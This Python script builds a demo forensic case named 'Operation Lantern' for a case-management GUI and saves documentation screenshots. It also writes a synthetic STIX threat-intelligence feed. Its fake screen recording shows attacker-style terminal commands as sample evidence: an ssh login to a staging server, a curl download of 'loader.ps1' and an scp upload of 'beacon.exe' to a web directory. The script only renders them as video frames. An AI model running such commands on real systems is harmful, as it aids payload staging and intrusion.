# SPDX-License-Identifier: GPL-3.0-or-later
"""Build a realistic case and save the window screenshots in ``docs/`` (not a test: run by hand).

    QT_QPA_PLATFORM=xcb xvfb-run -s "-screen 0 1400x900x24" .venv/bin/python tests/gui/screenshots.py

The case holds the bundled demo files (an analyst note, a forwarded phishing message, a terminal
screenshot with OCR-readable text, a flyer), real e-mails from ``../shared/corpora/mail-parser``,
phishing samples from ``../shared/corpora/phishing-dev`` and a synthetic screen recording; every item
is analysed as an import in the window would analyse it.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import sys
from pathlib import Path

from PySide6.QtCore import QEventLoop, QTimer
from PySide6.QtWidgets import QApplication

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests" / "unit" / "ingest"))
CORPORA = ROOT.parent / "shared" / "corpora"
WORK = Path(os.environ.get("SHOTS_DIR", "/tmp/casetrail-shots"))
MAILS = ("mail_test_9.eml", "mail_test_17.eml", "mail_test_8.eml", "mail_malformed_2.eml", "mail_test_3.eml")
PHISH = ("sample-1.eml", "sample-10.eml", "sample-100.eml", "sample-101.eml", "sample-102.eml",
         "sample-103.eml", "sample-104.eml", "sample-105.eml")


def build_case() -> Path:
    from screencast import Shown, render_screencast

    from desktop.core.case import Case
    from desktop.core.errors import CasetrailError
    from desktop.core.intel import Library
    from desktop.core.progress import run_to_end
    from desktop.core.tags import apply_tags
    from desktop.ingest.pipeline import import_and_analyse
    from desktop.resources import resource_path

    path = WORK / "Operation Lantern.casetrail"
    if path.exists():
        return path
    src = WORK / "evidence"
    shutil.rmtree(src, ignore_errors=True)
    src.mkdir(parents=True)
    for name in ("analyst-note.txt", "forwarded-message.eml", "terminal-screenshot.png", "flyer.jpg"):
        shutil.copy(resource_path("demo", name), src / name)
    shutil.copy(resource_path("demo", "flyer.jpg"), src / "flyer-as-forwarded.jpg")  # a duplicate
    for name in MAILS:
        shutil.copy(CORPORA / "mail-parser" / name, src / name)
    for name in PHISH:
        if (CORPORA / "phishing-dev" / name).is_file():
            shutil.copy(CORPORA / "phishing-dev" / name, src / f"phish-{name}")
    render_screencast(src / "screen-recording.mp4", [
        Shown(0.5, "$ ssh operator@185.141.63.120"),
        Shown(2.0, "operator@vps:~$ cd /opt/stage/payloads"),
        Shown(3.5, "operator@vps:/opt/stage/payloads$ ls"),
        Shown(4.0, "invoice_2024.docm  loader.ps1  beacon.exe"),
        Shown(5.5, "$ curl -O https://cdn-update.example-files.net/b/loader.ps1"),
        Shown(7.0, "$ scp beacon.exe root@203.0.113.77:/var/www/html/dl/"),
    ], duration_s=9.0, fps=10)
    with Case.create(path, title="Operation Lantern", examiner="A. Analyst", tlp="amber") as case:
        run_to_end(import_and_analyse(case, sorted(src.iterdir()), "screenshots for the docs"))
        for value, tags in (("185.141.63.120", ["tlp:amber", "attack-pattern:T1566"]),
                            ("203.0.113.77", ["tlp:amber", "exfil server"]),
                            ("http://example.com/rsvp/confirm", ["attack-pattern:T1566.002"])):
            with contextlib.suppress(CasetrailError):
                apply_tags(case, indicator=value, tags=tags)
        flyer = next(i for i in case.items() if i.name == "flyer.jpg")
    with Library.open() as library:
        library.import_feed(partner_feed(WORK / "partner-report.json", flyer.sha256))
    return path


def partner_feed(path: Path, lure_sha256: str = "") -> Path:
    """A partner's STIX 2.1 report naming the intrusion set behind two of the case's indicators."""
    created = "2024-02-01T00:00:00.000Z"
    actor = "intrusion-set--6f1c2a4e-0d7e-4c53-9a51-2b1d0f9b3c11"
    objects: list[dict[str, object]] = [{"type": "intrusion-set", "spec_version": "2.1", "id": actor,
                                         "created": created, "modified": created, "name": "LANTERN SPIDER"}]
    patterns = ["[ipv4-addr:value = '185.141.63.120']", "[ipv4-addr:value = '203.0.113.77']"]
    if lure_sha256:  # the flyer is a lure the partner saw: its hash is "known" in the evidence tree
        patterns.append(f"[file:hashes.'SHA-256' = '{lure_sha256}']")
    for n, pattern in enumerate(patterns):
        ind = f"indicator--0b8e2f7a-6a2d-4f0e-8a7c-0000000000{n:02d}"
        objects.append({"type": "indicator", "spec_version": "2.1", "id": ind, "created": created,
                        "modified": created, "pattern": pattern, "pattern_type": "stix",
                        "valid_from": created, "name": f"LANTERN SPIDER staging server {n + 1}"})
        objects.append({"type": "relationship", "spec_version": "2.1",
                        "id": f"relationship--5a1d9c3e-7b2f-4e8a-9c1d-0000000000{n:02d}", "created": created,
                        "modified": created, "relationship_type": "indicates", "source_ref": ind,
                        "target_ref": actor})
    path.write_text(json.dumps({"type": "bundle", "id": "bundle--1e2d3c4b-5a69-4788-9aab-bccddeeff001",
                                "objects": objects}))
    return path


def wait(ms: int) -> None:
    loop = QEventLoop()
    QTimer.singleShot(ms, loop.quit)
    loop.exec()


def wait_until(predicate: object, timeout_ms: int = 30000) -> None:
    waited = 0
    while not predicate() and waited < timeout_ms:  # type: ignore[operator]
        wait(50)
        waited += 50


def main() -> int:
    os.environ.setdefault("CASETRAIL_EXAMINER", "A. Analyst")
    os.environ.setdefault("CASETRAIL_HOME", str(WORK / "home"))
    path = build_case()
    app = QApplication(sys.argv)
    from desktop.ui.main_window import MainWindow

    win = MainWindow()
    win.resize(1400, 900)
    win.show()
    docs = ROOT / "docs"
    assert win.open_case(path)  # once, so that the welcome page lists it as a recent case
    win.close_case()
    wait(400)
    win.grab().save(str(docs / "screenshot-welcome.png"))
    assert win.open_case(path)
    model = win.model

    def select(predicate: object) -> int:
        for row in range(model.rowCount()):
            item = model.item_at(row)
            if item is not None and predicate(item):  # type: ignore[operator]
                win.table.selectRow(row)
                return row
        raise SystemExit("no such item in the screenshot case")

    splitter = win.panels.item_tabs.parentWidget()
    splitter.setSizes([300, 520])  # type: ignore[attr-defined]
    from desktop.ui.evidence_model import Column

    for row in range(model.rowCount()):  # the tree: messages open to their parts, the video to frames
        found = model.row_at(row)
        if found is not None and found.children and found.item.kind in ("email", "video"):
            win.table.expand(model.index(row, 0))
    for column in (Column.MIME, Column.ACQUIRED_AT):
        win.table.setColumnHidden(column, True)  # room for Duplicate and Known hash in the picture
    select(lambda i: i.name == "mail_malformed_2.eml")
    win.panels.item_tabs.setCurrentIndex(0)
    wait_until(lambda: not win.tasks.running())
    wait(600)
    win.grab().save(str(docs / "screenshot-evidence.png"))
    win.table.restore_columns()
    win.tabs.setCurrentIndex(0)
    select(lambda i: i.name == "mail_test_17.eml")
    win.panels.item_tabs.setCurrentIndex(1)
    wait(600)
    win.grab().save(str(docs / "screenshot-email.png"))

    select(lambda i: i.name == "terminal-screenshot.png")
    win.panels.item_tabs.setCurrentIndex(2)
    wait_until(lambda: not win.tasks.running())
    wait(400)
    win.grab().save(str(docs / "screenshot-media.png"))

    select(lambda i: i.name == "screen-recording.mp4")
    media = win.panels.media_view
    wait_until(lambda: not win.tasks.running() and media.frame_index is not None and not media.decoding)
    media.only_hits.setChecked(True)
    media.hits.selectRow(4)
    wait_until(lambda: not win.tasks.running() and not media.decoding)
    win.panels.media_view.canvas.zoom_by(1.8)
    win.panels.media_view.canvas.highlight(win.panels.media_view.canvas.highlighted)
    wait(400)
    win.grab().save(str(docs / "screenshot-video.png"))
    media.canvas.fit()
    media.play()  # playback: a second of the recording, then paused and stepped one frame on
    wait(1000)
    media.pause()
    wait_until(lambda: not media.decoding)
    media.step(1)
    wait_until(lambda: not media.decoding)
    wait(300)
    win.grab().save(str(docs / "screenshot-playback.png"))

    win.tabs.setCurrentWidget(win.panels.indicators_view)
    wait_until(lambda: win.panels.indicators_view.model.correlation_state != "running")
    view = win.panels.indicators_view
    for row in range(view.proxy.rowCount()):
        if str(view.proxy.index(row, 1).data()) == "185.141.63.120":
            view.table.selectRow(row)
            view.table.scrollTo(view.proxy.index(row, 0), view.table.ScrollHint.PositionAtCenter)
            break
    wait(600)
    win.grab().save(str(docs / "screenshot-indicators.png"))

    win.tabs.setCurrentWidget(win.panels.graph_view)
    graph = win.panels.graph_view
    wait_until(lambda: not win.tasks.running() and graph.canvas.node_items != []
               and len(graph.canvas.node_items) == len(graph.canvas.graph.nodes))  # every node drawn
    selected = view.current_indicator_id()
    if selected is not None:
        win.panels.graph_view.canvas.select_node(f"indicator:{selected}")
        win.panels.graph_view.canvas.fit()
    wait(400)
    win.grab().save(str(docs / "screenshot-graph.png"))
    win.close()
    app.processEvents()
    return 0


if __name__ == "__main__":
    sys.exit(main())
